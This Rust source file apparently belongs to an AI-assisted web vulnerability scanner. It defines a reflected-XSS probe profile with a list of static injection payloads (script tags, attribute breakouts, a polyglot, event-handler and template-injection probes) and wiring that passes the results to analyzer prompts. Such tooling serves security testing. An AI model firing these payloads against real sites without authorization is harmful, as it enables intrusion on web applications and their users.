use async_trait::async_trait;
use serde_json::{json, Value};

use crate::agents::worker::{head_chars, VulnProfile};
use crate::agents::ScanContext;
use crate::core::executor::ProbeResult;
use crate::core::VulnKind;
use crate::prompts::{XSS_ANALYZER_PROMPT, XSS_GENERATOR_PROMPT};

/// Static first-wave payloads: basic tags, attribute breakouts, scriptless
/// vectors, a polyglot and template-literal probes for client frameworks.
pub const XSS_STATIC_PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/'/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\";alert(1)//",
    "\" onmouseover=alert(1) //",
    "' onmouseover=alert(1) //",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe/src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "{{7*7}}",
    "${7*7}",
];

/// Reflected XSS worker profile. The analyzer additionally receives a
/// precomputed `reflected_directly` bit: payload substring present verbatim
/// in the response body.
pub struct XssProfile;

#[async_trait]
impl VulnProfile for XssProfile {
    fn kind(&self) -> VulnKind {
        VulnKind::Xss
    }

    fn label(&self) -> &'static str {
        "XSS"
    }

    fn finding_type(&self) -> &'static str {
        "Reflected XSS"
    }

    fn static_payloads(&self) -> &'static [&'static str] {
        XSS_STATIC_PAYLOADS
    }

    async fn generator_prompt(&self, _ctx: &ScanContext) -> String {
        XSS_GENERATOR_PROMPT.to_string()
    }

    fn analyzer_prompt(&self) -> &'static str {
        XSS_ANALYZER_PROMPT
    }

    fn analyzer_user_content(&self, _ctx: &ScanContext, results: &[ProbeResult]) -> String {
        let summary: Vec<Value> = results
            .iter()
            .map(|r| {
                json!({
                    "parameter": r.parameter,
                    "payload": r.payload,
                    "reflected_directly": r.response.contains(r.payload.as_str()),
                    "response_slice": head_chars(&r.response, 500),
                })
            })
            .collect();
        format!("Reflection context: {}", json!(summary))
    }
}
